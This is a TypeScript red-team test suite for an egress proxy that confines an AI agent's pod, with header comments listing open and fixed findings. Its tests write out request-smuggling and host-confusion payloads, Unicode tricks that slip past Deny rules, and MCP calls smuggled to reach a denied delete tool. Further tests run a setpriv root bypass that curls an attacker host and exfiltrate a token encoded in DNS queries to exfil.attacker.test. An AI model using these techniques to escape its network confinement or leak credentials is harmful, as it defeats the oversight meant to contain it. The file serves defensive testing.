// Red team of the data plane through the real Envoy and sidecar (DESIGN.md "Data plane",
// "Decision semantics"). Each `it` is one attack the agent (UID 1000, or root without
// NET_ADMIN/NET_RAW) tries; it asserts the SAFE outcome, so a failing test is a finding.
// Tests marked FINDING failed on a7533e0 (see the comment above each): 8 of 91.
//   1. root in the agent container (no NET_ADMIN/NET_RAW, default CAP_SETUID) becomes UID 1337: no capture.
//      Closed at admission: the pod guard refuses agent containers that run as root, keep any
//      capability or may escalate, and the injector sets a non-root UID and drops ALL
//      (e2e/test/pod-guard.test.ts). The harness runs no container runtime, so the test below
//      still shows what capture by UID alone cannot stop: it stays it.failing on purpose.
//   2. proxy-env: the agent reads the sidecar's /debug/snapshot and /metrics on 127.0.0.1:15021.
//      Fixed: /debug/snapshot is served only with --debug-snapshot, which the injector never sets.
//   3. Deny path folding: "admın" (U+0131), "ADMİN" (U+0130), "ſecrets" (U+017F) escape Deny rules.
//      Fixed: such letters make the path invalid-request.
//   4. Method-override headers ride an allowed POST, credential attached.
//      Fixed: Envoy removes the override headers upstream; a _method query parameter is invalid-request.
//   5. DNS (and any UDP payload to the resolver's port 53) leaves the pod undecided.
//      Open by design: DESIGN.md lets DNS go to the pod's resolver; a filtering resolver is future work.
// Open findings are `it.failing`: they pass while the hole is there and fail the day it closes,
// which is the day to make them plain tests again.
// Run with RT_EVIDENCE=/tmp/x.jsonl to record what each attempt got back.
import { startDnsServer, type RunningDnsServer } from '../dns/dns-server.js';
import { startHttpUpstream, type RunningHttpUpstream } from '../upstreams/http-upstream.js';
import { startHttpsUpstream, type RunningHttpsUpstream } from '../upstreams/https-upstream.js';
import { startGoJsonUpstream, type RunningGoJson } from '../upstreams/gojson.js';
import type { HttpReceived } from '../upstreams/http-recording.js';
import { uniqueNamespace } from '../../test/cluster.js';
import { startScenario, type Scenario } from '../scenario.js';
import { appendFileSync } from 'node:fs';
import { join } from 'node:path';
import { curl, header } from '../agent-commands.js';
import { ROOT } from '../pod.js';
import { AGENT_POLICY_HEAD, credentialSecret } from '../manifests.js';

const TOKEN = 'rt-api-token-5e1d';
const SECURE_TOKEN = 'rt-secure-token-77b0';
const MCP_TOKEN = 'rt-mcp-token-0c4a';
const NODE = join(ROOT, 'node_modules/.bin/node');
const RAW = join(ROOT, 'e2e/pod/test/redteam/raw.py');
const RAWJS = join(ROOT, 'dist/e2e/pod/agent/raw.js');

const manifests = `
${credentialSecret('api', TOKEN)}${credentialSecret('secure', SECURE_TOKEN)}${credentialSecret('mcp', MCP_TOKEN)}${AGENT_POLICY_HEAD}    - name: read-items
      to: {hosts: [api.example.com]}
      http: {methods: [GET], paths: ["/items/{id}"]}
      credential: api
    - name: create-item
      to: {hosts: [api.example.com]}
      http: {methods: [POST], paths: ["/items"]}
      credential: api
    - name: no-admin
      action: Deny
      to: {hosts: [api.example.com]}
      http: {paths: ["/admin/**", "/secrets/**"]}
    - name: anything-else-on-api
      to: {hosts: [api.example.com]}
      http: {methods: [GET], paths: ["/**"]}
    - name: secure-read
      to: {hosts: [secure.example.com], ports: [443]}
      http: {methods: [GET], paths: ["/v1/**"]}
      credential: secure
    - name: tls-host
      to: {hosts: [tls.example.com], ports: [443]}
    - name: mcp-search
      to: {hosts: [mcp.example.com]}
      mcp: {tools: [search_tickets]}
      credential: mcp
    - name: mcp-no-delete
      action: Deny
      to: {hosts: [mcp.example.com]}
      mcp: {tools: [delete_customer]}
  credentials:
    - {name: api, secretRef: {name: api, key: token}}
    - {name: secure, secretRef: {name: secure, key: token}}
    - {name: mcp, secretRef: {name: mcp, key: token}}
`;

interface RawResult { readonly connected: boolean; readonly received: string; readonly error: string | null }

const hex = (s: string | Buffer): string => (typeof s === 'string' ? Buffer.from(s, 'latin1') : s).toString('hex');

/** Sends `parts` (written apart by gapMs) to host:port as the agent; what came back. */
async function raw(sc: Scenario, host: string, port: number, parts: readonly (string | Buffer)[], opts: { gapMs?: number; readMs?: number; sni?: string; uid?: number } = {}): Promise<RawResult> {
  const spec = JSON.stringify({ parts: parts.map(hex), gap_ms: opts.gapMs ?? 300, read_ms: opts.readMs ?? 1500, tls_sni: opts.sni ?? null });
  const argv = ['/usr/bin/python3', RAW, host, String(port), spec];
  const r = opts.uid === undefined ? await sc.pod.agent(argv, 20_000) : await sc.pod.exec(opts.uid, argv, 20_000);
  try {
    const out = JSON.parse(r.stdout) as RawResult;
    evidence('raw', { sent: parts.map((p) => (typeof p === 'string' ? p : p.toString('latin1')).slice(0, 300)), received: out.received.slice(0, 600), error: out.error });
    return out;
  } catch {
    return { connected: false, received: '', error: `raw.py: ${r.code} ${r.stderr}` };
  }
}

/** Status codes of every HTTP/1 response in `text`. */
function statuses(text: string): number[] {
  return [...text.matchAll(/HTTP\/1\.[01] (\d{3})/g)].map((m) => Number(m[1]));
}

function decodedLowerPath(target: string): string {
  let p = target.replace(/^[a-z]+:\/\/[^/]*/i, '').split('?')[0] ?? '';
  try { p = decodeURIComponent(p); } catch { /* keep */ }
  return p.toLowerCase();
}

/** What each attempt got back, for the report: RT_EVIDENCE=/path/to/file.jsonl. */
function evidence(what: string, value: unknown): void {
  const file = process.env['RT_EVIDENCE'];
  if (file !== undefined) appendFileSync(file, `${JSON.stringify({ test: expect.getState().currentTestName, what, value })}\n`);
}

/** The allowed API host of both scenarios. */
const H = 'api.example.com';

/** The root-bypass attempt's path on the attacker (its own finding; other tests ignore it). */
const ROOT_BYPASS = '/rt-root-bypass';

/**
 * A barrier instead of a sleep: an allowed request through the same pod, Envoy and
 * upstream, awaited until the upstream has recorded it. What an attack smuggled
 * ahead of it on the way has arrived by then.
 */
function barrier(pod: () => Scenario, upstream: () => RunningHttpUpstream): () => Promise<void> {
  let n = 0;
  return async () => {
    const target = `/items/barrier-${++n}`;
    await curl(pod().pod, [`http://${H}${target}`]);
    await upstream().recorder.waitFor((e) => e.target === target, 10_000);
  };
}

// ----------------------------------------------------------------------------
// iptables capture
// ----------------------------------------------------------------------------
describe('red team: iptables capture', () => {
  let s: Scenario;
  let dns: RunningDnsServer;
  let api: RunningHttpUpstream;
  let attacker: RunningHttpUpstream;
  let secure: RunningHttpsUpstream;
  let securePlain: RunningHttpUpstream;
  let gojson: RunningGoJson;
  const settle = barrier(() => s, () => api);

  beforeAll(async () => {
    s = await startScenario({
      slot: 31,
      namespace: uniqueNamespace('pod-redteam'),
      annotations: { 'agentwarden.io/tls-origination': 'secure.example.com' },
      manifests,
      servers: async (net, caDir) => {
        dns = await startDnsServer({
          listen: [{ host: net.resolver, port: 53 }],
          hosts: {
            'api.example.com': [net.hostIp(10)], 'secure.example.com': [net.hostIp(11)], 'mcp.example.com': [net.hostIp(12)],
            'tls.example.com': [net.hostIp(66)], 'evil.example.com': [net.hostIp(66)],
          },
        });
        api = await startHttpUpstream({ listen: [{ host: net.hostIp(10), port: 80 }, { host: net.hostIp(10), port: 8080 }] });
        attacker = await startHttpUpstream({ listen: [{ host: net.hostIp(66), port: 80 }, { host: net.hostIp(66), port: 8080 }, { host: net.hostIp(66), port: 443 }] });
        secure = await startHttpsUpstream({ listen: [{ host: net.hostIp(11), port: 443 }], names: ['secure.example.com'], caDir });
        securePlain = await startHttpUpstream({ listen: [{ host: net.hostIp(11), port: 80 }] });
        gojson = await startGoJsonUpstream([{ host: net.hostIp(12), port: 80 }]);
        return [() => dns.close(), () => api.close(), () => attacker.close(), () => secure.close(), () => securePlain.close(), () => gojson.close()];
      },
    });
  }, 180_000);

  afterAll(async () => {
    await s?.stop();
  });

  /** The invariants every attack must leave intact. */
  function expectSafe(marker: string): void {
    // (a) nothing, let alone a credential, reached a host that was not decided on.
    expect(attacker.received.filter((e) => e.target !== ROOT_BYPASS).map((e) => `${e.method} ${e.target}`)).toEqual([]);
    expect(securePlain.received.map((e) => `${e.method} ${e.target}`)).toEqual([]);
    const mine = api.received.filter((e) => e.target.includes(marker));
    evidence('upstream', mine.map((e) => ({ method: e.method, target: e.target, rawHeaders: e.rawHeaders })));
    // (b) no request under a Deny path reached the upstream.
    const denied = mine.filter((e) => /^\/(admin|secrets)(\/|$)/.test(decodedLowerPath(e.target)));
    expect(denied.map((e) => `${e.method} ${e.target}`)).toEqual([]);
    // (b) a credential only on what read-items / create-item allow.
    const credentialed = mine.filter((e) => header(e, 'authorization') !== undefined);
    for (const e of credentialed) expect([e.method, /^\/items(\/[^/?]+)?$/.test(e.target)]).toEqual([e.method === 'POST' ? 'POST' : 'GET', true]);
  }

  
  const apiIp = (): string => s.network.hostIp(10);

  it('baseline: an allowed request arrives with its credential', async () => {
    const r = await curl(s.pod, [`http://${H}/items/base1`]);
    expect(r.status).toBe(200);
    const got = await api.recorder.waitFor((e) => e.target === '/items/base1', 5_000);
    expect(header(got, 'authorization')).toBe(`Bearer ${TOKEN}`);
  });

  // --- host / authority confusion ------------------------------------------------------
  it.each([
    ['duplicate Host (allowed first)', `GET /items/dh1 HTTP/1.1\r\nHost: ${H}\r\nHost: evil.example.com\r\n\r\n`, 'dh1'],
    ['duplicate Host (allowed second)', `GET /items/dh2 HTTP/1.1\r\nHost: evil.example.com\r\nHost: ${H}\r\n\r\n`, 'dh2'],
    ['absolute-form evil, Host allowed', `GET http://evil.example.com/items/ab1 HTTP/1.1\r\nHost: ${H}\r\n\r\n`, 'ab1'],
    ['absolute-form allowed /admin, Host evil', `GET http://${H}/admin/ab2 HTTP/1.1\r\nHost: evil.example.com\r\n\r\n`, 'ab2'],
    ['absolute-form https scheme', `GET https://${H}/admin/ab3 HTTP/1.1\r\nHost: ${H}\r\n\r\n`, 'ab3'],
    ['userinfo evil@allowed', `GET http://evil.example.com@${H}/items/ui1 HTTP/1.1\r\nHost: ${H}\r\n\r\n`, 'ui1'],
    ['userinfo allowed@evil', `GET http://${H}@evil.example.com/items/ui2 HTTP/1.1\r\nHost: evil.example.com\r\n\r\n`, 'ui2'],
    ['userinfo allowed:80@evil in Host', `GET /items/ui3 HTTP/1.1\r\nHost: ${H}:80@evil.example.com\r\n\r\n`, 'ui3'],
    ['port :080', `GET /admin/p080 HTTP/1.1\r\nHost: ${H}:080\r\n\r\n`, 'p080'],
    ['port :65616 (80 mod 2^16)', `GET /items/p65616 HTTP/1.1\r\nHost: evil.example.com:65616\r\n\r\n`, 'p65616'],
    ['port :+80', `GET /items/pplus HTTP/1.1\r\nHost: evil.example.com:+80\r\n\r\n`, 'pplus'],
    ['percent-encoded host', `GET /items/pe1 HTTP/1.1\r\nHost: evil%2eexample.com\r\n\r\n`, 'pe1'],
    ['unicode (cyrillic a) host', Buffer.concat([Buffer.from('GET /items/uni1 HTTP/1.1\r\nHost: '), Buffer.from('\u0430pi.example.com', 'utf8'), Buffer.from('\r\n\r\n')]), 'uni1'],
    ['host with NUL', `GET /items/nul1 HTTP/1.1\r\nHost: ${H}\u0000.evil.example.com\r\n\r\n`, 'nul1'],
    ['host with trailing whitespace then evil', `GET /items/ws1 HTTP/1.1\r\nHost: ${H} evil.example.com\r\n\r\n`, 'ws1'],
    ['HTTP/1.0 without Host', 'GET /items/h10 HTTP/1.0\r\n\r\n', 'h10'],
    ['empty Host, absolute-form evil', 'GET http://evil.example.com/items/eh1 HTTP/1.1\r\nHost:\r\n\r\n', 'eh1'],
    ['keep-alive: second request switches Host', `GET /items/ka1 HTTP/1.1\r\nHost: ${H}\r\n\r\nGET /items/ka2 HTTP/1.1\r\nHost: evil.example.com\r\n\r\n`, 'ka'],
  ])('host confusion: %s', async (_name, payload, marker) => {
    await raw(s, s.network.hostIp(66), 80, [payload]);
    await settle();
    expectSafe(marker);
  });

  // --- HTTP/1 framing / smuggling -------------------------------------------------------
  it.each([
    ['CL.TE', `GET /items/clte HTTP/1.1\r\nHost: ${H}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin/clte HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['TE.CL', `GET /items/tecl HTTP/1.1\r\nHost: ${H}\r\nTransfer-Encoding: chunked\r\nContent-Length: 40\r\n\r\n2d\r\nGET /admin/tecl HTTP/1.1\r\nHost: ${H}\r\nX: y\r\n\r\n0\r\n\r\n`],
    ['TE: chunked, identity', `GET /items/teci HTTP/1.1\r\nHost: ${H}\r\nTransfer-Encoding: chunked, identity\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /admin/teci HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['two TE headers', `GET /items/te2 HTTP/1.1\r\nHost: ${H}\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin/te2 HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['TE with space before colon', `GET /items/tesp HTTP/1.1\r\nHost: ${H}\r\nTransfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /admin/tesp HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['TE: xchunked', `GET /items/tex HTTP/1.1\r\nHost: ${H}\r\nTransfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /admin/tex HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['TE: tab chunked', `GET /items/tetab HTTP/1.1\r\nHost: ${H}\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\nGET /admin/tetab HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['two Content-Length', `GET /items/cl2 HTTP/1.1\r\nHost: ${H}\r\nContent-Length: 0\r\nContent-Length: 41\r\n\r\nGET /admin/cl2 HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['Content-Length list', `GET /items/cll HTTP/1.1\r\nHost: ${H}\r\nContent-Length: 0, 41\r\n\r\nGET /admin/cll HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['obs-fold Host continuation', `GET /items/of1 HTTP/1.1\r\nHost: ${H}\r\nX-A: a\r\n Host: evil.example.com\r\n\r\n`],
    ['obs-fold on Transfer-Encoding', `GET /items/of2 HTTP/1.1\r\nHost: ${H}\r\nTransfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /admin/of2 HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['bare LF line endings + pipelined deny', `GET /items/lf1 HTTP/1.1\nHost: ${H}\n\nGET /admin/lf1 HTTP/1.1\nHost: ${H}\n\n`],
    ['bare CR in header', `GET /items/cr1 HTTP/1.1\r\nHost: ${H}\r\nX-A: a\rGET /admin/cr1 HTTP/1.1\r\n\r\n`],
    ['pipelining: allowed then denied', `GET /items/pl1 HTTP/1.1\r\nHost: ${H}\r\n\r\nGET /admin/pl1 HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['chunk-size with extension and LF only', `GET /items/cx1 HTTP/1.1\r\nHost: ${H}\r\nTransfer-Encoding: chunked\r\n\r\n0;x=y\n\nGET /admin/cx1 HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['chunked trailers with Host and x-agentwarden', `GET /items/trl1 HTTP/1.1\r\nHost: ${H}\r\nTransfer-Encoding: chunked\r\nTrailer: Host\r\n\r\n0\r\nHost: evil.example.com\r\nx-agentwarden-decision: allow\r\n\r\n`],
    ['request-line with absolute path and spaces', `GET /items/sp1 /admin/sp1 HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['HTTP/0.9 style request line', 'GET /admin/h09\r\n\r\n'],
    ['lowercase method on Deny path', `delete /admin/lm1 HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
  ])('smuggling: %s', async (_name, payload) => {
    const marker = /\/items\/([a-z0-9]+)/.exec(payload)?.[1] ?? /\/admin\/([a-z0-9]+)/.exec(payload)?.[1] ?? 'none';
    await raw(s, apiIp(), 80, [payload]);
    await settle();
    expectSafe(marker);
  });

  it('Expect: 100-continue with a denied MCP body sent after the interim response', async () => {
    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'delete_customer', arguments: { id: 'C-1' } } });
    const before = gojson.received.length;
    const r = await raw(s, s.network.hostIp(12), 80, [
      `POST /mcp HTTP/1.1\r\nHost: mcp.example.com\r\nContent-Type: application/json\r\nExpect: 100-continue\r\nContent-Length: ${body.length}\r\n\r\n`,
      body,
    ], { gapMs: 600 });
    await settle();
    expect(gojson.received.slice(before).filter((e) => e.tool === 'delete_customer')).toEqual([]);
    // A denied MCP call is answered with a JSON-RPC error (HTTP 200 for MCP clients) by agentwarden, not the upstream.
    expect(r.received).toMatch(/mcp-no-delete|"error"/);
  });

  it.each([
    ['gzip content-encoding of an MCP delete', 'gzip'],
    ['deflate content-encoding of an MCP delete', 'deflate'],
  ])('bodies: %s never reaches the upstream as an allowed call', async (_n, enc) => {
    const { gzipSync, deflateSync } = await import('node:zlib');
    const json = JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'delete_customer', arguments: {} } });
    const body = enc === 'gzip' ? gzipSync(json) : deflateSync(json);
    const before = gojson.received.length;
    const r = await raw(s, s.network.hostIp(12), 80, [Buffer.concat([Buffer.from(`POST /mcp HTTP/1.1\r\nHost: mcp.example.com\r\nContent-Type: application/json\r\nContent-Encoding: ${enc}\r\nContent-Length: ${body.length}\r\n\r\n`), body])]);
    await settle();
    expect(gojson.received.slice(before).filter((e) => e.tool === 'delete_customer')).toEqual([]);
    // The upstream never got it with the MCP credential either.
    expect(statuses(r.received).filter((c) => c === 200)).toEqual([]);
  });

  it.each([
    ['an MCP batch array', JSON.stringify([{ jsonrpc: '2.0', id: 3, method: 'tools/call', params: { name: 'search_tickets', arguments: {} } }, { jsonrpc: '2.0', id: 4, method: 'tools/call', params: { name: 'delete_customer', arguments: {} } }])],
    ['a Go LONG S key (paramſ) that Go folds to params', '{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"search_tickets"},"param\u017f":{"name":"delete_customer"}}'],
    ['a Cyrillic a in a key (n\u0430me), which Go does not fold (control)', '{"jsonrpc":"2.0","id":6,"method":"tools/call","params":{"name":"search_tickets","n\u0430me":"delete_customer"}}'],
  ])('MCP: %s does not call delete_customer', async (_n, body) => {
    const before = gojson.received.length;
    await raw(s, s.network.hostIp(12), 80, [Buffer.concat([Buffer.from(`POST /mcp HTTP/1.1\r\nHost: mcp.example.com\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`), Buffer.from(body, 'utf8')])]);
    await settle();
    expect(gojson.received.slice(before).filter((e) => e.tool === 'delete_customer').map((e) => [e.tool, e.authorization])).toEqual([]);
  });

  it('MCP: a JSON-RPC call in the query of a GET (no body) is not allowed with the MCP credential', async () => {
    const q = encodeURIComponent(JSON.stringify({ jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'delete_customer' } }));
    const r = await curl(s.pod, [`http://mcp.example.com/mcp?message=${q}`]);
    expect(r.status).not.toBe(200);
  });

  // --- upgrades / tunnels --------------------------------------------------------------
  it.each([
    ['h2c upgrade', `GET /items/h2cu HTTP/1.1\r\nHost: ${H}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n`],
    ['websocket upgrade', `GET /items/wsu HTTP/1.1\r\nHost: ${H}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`],
    ['CONNECT (HTTP/1) in iptables mode', `CONNECT ${H}:80 HTTP/1.1\r\nHost: ${H}:80\r\n\r\nGET /admin/conn1 HTTP/1.1\r\nHost: ${H}\r\n\r\n`],
    ['CONNECT to evil in iptables mode', 'CONNECT evil.example.com:8080 HTTP/1.1\r\nHost: evil.example.com:8080\r\n\r\nGET /conn2 HTTP/1.1\r\nHost: evil.example.com\r\n\r\n'],
  ])('upgrade: %s opens no undecided tunnel', async (_n, payload) => {
    const r = await raw(s, apiIp(), 80, [payload]);
    await settle();
    expect(statuses(r.received)).not.toContain(101);
    expect(statuses(r.received).filter((c) => c === 200 && payload.startsWith('CONNECT'))).toEqual([]);
    expectSafe('conn');
    expectSafe('h2cu');
    expectSafe('wsu');
    // An upgrade must not arrive at the upstream as one (it could answer 101 and open a stream no one decides).
    const upgraded = api.received.filter((e) => e.target.includes('h2cu') || e.target.includes('wsu')).filter((e) => header(e, 'upgrade') !== undefined);
    expect(upgraded.map((e) => `${e.target} upgrade=${header(e, 'upgrade') ?? ''}`)).toEqual([]);
  });

  /** Runs an HTTP/2 (prior knowledge) client as the agent: one request with the given headers; prints status. */
  async function h2(target: string, headers: Record<string, string>): Promise<{ status: number; error: string | null }> {
    const script = `
      const http2 = require('node:http2');
      const c = http2.connect(${JSON.stringify(target)});
      c.on('error', (e) => { console.log(JSON.stringify({ status: 0, error: String(e) })); process.exit(0); });
      const req = c.request(${JSON.stringify(headers)});
      req.on('response', (h) => { console.log(JSON.stringify({ status: h[':status'], error: null })); c.close(); });
      req.on('error', (e) => { console.log(JSON.stringify({ status: 0, error: String(e) })); c.close(); });
      req.end();
      setTimeout(() => { console.log(JSON.stringify({ status: 0, error: 'timeout' })); process.exit(0); }, 5000).unref();
    `;
    const r = await s.pod.agent([NODE, '-e', script], 15_000);
    evidence('h2', { headers, stdout: r.stdout, stderr: r.stderr.slice(0, 300) });
    try { return JSON.parse(r.stdout.split('\n')[0] ?? '') as { status: number; error: string | null }; } catch { return { status: 0, error: r.stderr }; }
  }

  it.each([
    [':authority allowed, host evil', { ':path': '/items/h2a1', ':authority': H, host: 'evil.example.com' }, 'h2a1'],
    [':authority evil, host allowed', { ':path': '/items/h2a2', ':authority': 'evil.example.com', host: H }, 'h2a2'],
    ['no :authority, host allowed on Deny path', { ':path': '/admin/h2a3', host: H }, 'h2a3'],
    ['CONNECT over h2', { ':method': 'CONNECT', ':authority': `${H}:80` }, 'h2c1'],
    ['x-agentwarden header over h2', { ':path': '/admin/h2a4', ':authority': H, 'x-agentwarden-decision': 'allow' }, 'h2a4'],
  ])('HTTP/2: %s', async (_n, headers, marker) => {
    const r = await h2(`http://${s.network.hostIp(66)}:80`, headers);
    await settle();
    if ((headers as Record<string, string>)[':method'] === 'CONNECT') expect(r.status).not.toBe(200);
    expectSafe(marker);
  });

  // --- what the upstream does with an allowed request ----------------------------------
  // FINDING (expected): method-override headers are forwarded on an allowed request; an upstream
  // that honours them (Express method-override, Symfony/Laravel, Google APIs) runs DELETE although
  // only POST /items is allowed.
  it('an allowed POST does not carry a method override to the upstream', async () => {
    const r = await curl(s.pod, ['-X', 'POST', `http://${H}/items`, '-H', 'X-HTTP-Method-Override: DELETE', '-H', 'X-HTTP-Method: DELETE', '-H', 'X-Method-Override: DELETE', '--data', 'x=1']);
    await settle();
    const got = api.received.filter((e) => e.method === 'POST' && e.target === '/items' && header(e, 'x-http-method-override') !== undefined);
    evidence('override', { status: r.status, upstream: got.map((e) => ({ method: e.method, target: e.target, rawHeaders: e.rawHeaders })) });
    // Envoy removes the override headers upstream: the POST arrives as a POST and nothing else.
    expect(got.map((e) => [header(e, 'x-http-method-override'), header(e, 'authorization')])).toEqual([]);
  });

  // FINDING (expected): Deny literal segments are folded with JS toLowerCase only. Java's
  // equalsIgnoreCase and .NET's OrdinalIgnoreCase read "admın" (U+0131) as "admin" and "ſecrets"
  // (U+017F) as "secrets"; JS lower-casing does not, so the Deny rule does not match and the
  // catch-all Allow lets the request through to the case-insensitive upstream.
  it.each([
    ['dotless i (U+0131) in /admin', '/adm%C4%B1n/rtfold1'],
    ['capital I with dot (U+0130) in /ADMIN', '/ADM%C4%B0N/rtfold2'],
    ['long s (U+017F) in /secrets', '/%C5%BFecrets/rtfold3'],
    ['ASCII upper case (control)', '/ADMIN/rtfold4'],
  ])('Deny paths fold like case-insensitive servers: %s', async (_n, path) => {
    const r = await curl(s.pod, ['--path-as-is', `http://${H}${path}`]);
    await settle();
    evidence('fold', { path, status: r.status, body: r.body.slice(0, 300), upstream: api.received.filter((e) => e.target === path).map((e) => e.target) });
    const got = api.received.filter((e) => e.target === path);
    // Java equalsIgnoreCase / .NET OrdinalIgnoreCase would route these to the denied handler.
    const javaFold = (x: string): string => decodeURIComponent(x).split('').map((c) => c.toUpperCase().toLowerCase()).join('').normalize('NFC');
    const readsAsDenied = /^\/(admin|secrets)\//.test(javaFold(path).replace('i\u0307', 'i'));
    if (readsAsDenied) expect([r.status, got.length]).toEqual([403, 0]);
  });

  // --- leaving the pod without a decision ---------------------------------------------
  // FINDING (expected): root in the agent container, without NET_ADMIN or NET_RAW but with the
  // default CAP_SETUID, becomes the proxy UID and the capture lets everything through.
  it.failing('root without NET_ADMIN/NET_RAW cannot send past the capture by becoming the proxy UID (capture alone; the pod guard refuses such a container)', async () => {
    const noNetAdmin = await s.pod.exec(0, ['setpriv', '--bounding-set', '-net_admin,-net_raw', '--inh-caps', '-net_admin,-net_raw', '--', 'iptables', '-w', '-t', 'nat', '-F']);
    expect(noNetAdmin.code).not.toBe(0); // really no NET_ADMIN
    const r = await s.pod.exec(0, ['setpriv', '--bounding-set', '-net_admin,-net_raw', '--inh-caps', '-net_admin,-net_raw', '--',
      'setpriv', `--reuid=${s.options.proxyUid}`, `--regid=${s.options.proxyUid}`, '--clear-groups', '--',
      'curl', '-sS', '--max-time', '5', '-o', '/dev/null', '-w', '%{http_code}', `http://${s.network.hostIp(66)}:8080${ROOT_BYPASS}`]);
    await settle();
    evidence('root-bypass', { stdout: r.stdout, stderr: r.stderr, noNetAdmin: noNetAdmin.stderr, attacker: attacker.received.filter((e) => e.target === ROOT_BYPASS) });
    expect([r.stdout, attacker.received.filter((e) => e.target === ROOT_BYPASS).length]).toEqual(['000', 0]);
  });

  // FINDING (design, expected): DNS to the pod's resolver is undecided; the query name carries
  // data to whoever is authoritative for the zone (the cluster resolver forwards it).
  it.failing('DNS queries do not carry agent data out undecided (open by design)', async () => {
    const secret = Buffer.from(TOKEN).toString('hex');
    await s.pod.agent(['/usr/bin/python3', '-c', 'import socket,sys\ntry: socket.getaddrinfo(sys.argv[1], 80)\nexcept Exception: pass', `${secret}.exfil.attacker.test`]);
    await s.pod.agent([NODE, RAWJS, '--tcp', `${s.network.resolver}:53`, '--send', 'GET /rt-dns-tcp HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', '--timeout-ms', '1500']);
    await settle();
    const leaked = dns.received.filter((e) => (e.name ?? '').includes(secret) || (e.protocol === 'tcp' && e.error !== null));
    expect(leaked.map((e) => `${e.protocol} ${e.name ?? ''} ${e.error ?? ''}`)).toEqual([]);
  });

  it.failing('UDP to the resolver on port 53 that is not DNS does not arrive (open by design)', async () => {
    const before = dns.received.length;
    await s.pod.agent([NODE, RAWJS, '--udp', `${s.network.resolver}:53`, '--send', 'not dns at all: exfil payload', '--timeout-ms', '800']);
    await settle();
    expect(dns.received.slice(before).map((e) => `${e.protocol} ${e.error ?? ''}`)).toEqual([]);
  });

  // --- agentwarden's own ---------------------------------------------------------------
  it.each([
    ['sidecar admin on the pod IPv6', () => [`http://[${s.network.podIp6}]:15021/readyz`]],
    ['sidecar admin on ::1', () => ['http://[::1]:15021/debug/snapshot']],
    ['sidecar admin on 127.0.0.2', () => ['http://127.0.0.2:15021/debug/snapshot']],
    ['Envoy listener directly', () => ['http://127.0.0.1:15001/admin/own1', '-H', `Host: ${H}`]],
    ['through Envoy to the sidecar admin by pod IP', () => [`http://${H}/debug/snapshot`, '-H', `Host: ${s.network.podIp}:15021`]],
    ['through Envoy to agent-pod:15021 (/etc/hosts)', () => [`http://${H}/debug/snapshot`, '-H', 'Host: agent-pod:15021']],
    ['controller distribution port via Envoy', () => [`http://${s.network.hostIp(1)}:15012/`]],
  ])('own: %s is unreachable', async (_n, args) => {
    const r = await curl(s.pod, args());
    expect(r.status === 200 && /snapshot|ready|rules/i.test(r.body) ? r.body.slice(0, 200) : 'refused').toBe('refused');
    expectSafe('own1');
  });

  it('TLS with an allowed SNI to another port of the attacker IP is not sent to the attacker', async () => {
    await raw(s, s.network.hostIp(66), 8080, ['GET /rt-tls HTTP/1.1\r\nHost: evil.example.com\r\n\r\n'], { sni: 'tls.example.com' });
    await settle();
    expect(attacker.received.filter((e) => e.target !== ROOT_BYPASS).map((e) => e.target)).toEqual([]);
  });

  // --- fail open -----------------------------------------------------------------------
  it('a header value of invalid UTF-8 neither crashes the sidecar nor is allowed by failure', async () => {
    const payload = Buffer.concat([Buffer.from(`GET /admin/utf1 HTTP/1.1\r\nHost: ${H}\r\nX-Bytes: `), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]), Buffer.from('\r\n\r\n')]);
    await raw(s, apiIp(), 80, [payload]);
    await settle();
    expectSafe('utf1');
    const after = await curl(s.pod, [`http://${H}/items/utf2`]);
    expect(after.status).toBe(200);
  });

  it('many headers and a huge header do not make Envoy or the sidecar allow by failure', async () => {
    const many = Array.from({ length: 95 }, (_, i) => `X-H${i}: ${'v'.repeat(500)}\r\n`).join('');
    await raw(s, apiIp(), 80, [`GET /admin/big1 HTTP/1.1\r\nHost: ${H}\r\n${many}\r\n`]);
    await settle();
    expectSafe('big1');
  });

  it('finally: the credentials never left in clear to the TLS-originated host, and the attacker got nothing', () => {
    expect(securePlain.received).toEqual([]);
    expect(attacker.received.filter((e: HttpReceived) => JSON.stringify(e.rawHeaders).includes('Bearer'))).toEqual([]);
    expect(attacker.received.filter((e) => e.target !== ROOT_BYPASS)).toEqual([]);
    for (const e of secure.received) expect(e.tls).not.toBeNull();
  });
});

// ----------------------------------------------------------------------------
// proxy-env capture
// ----------------------------------------------------------------------------
describe('red team: proxy-env capture', () => {
  let s: Scenario;
  let dns: RunningDnsServer;
  let api: RunningHttpUpstream;
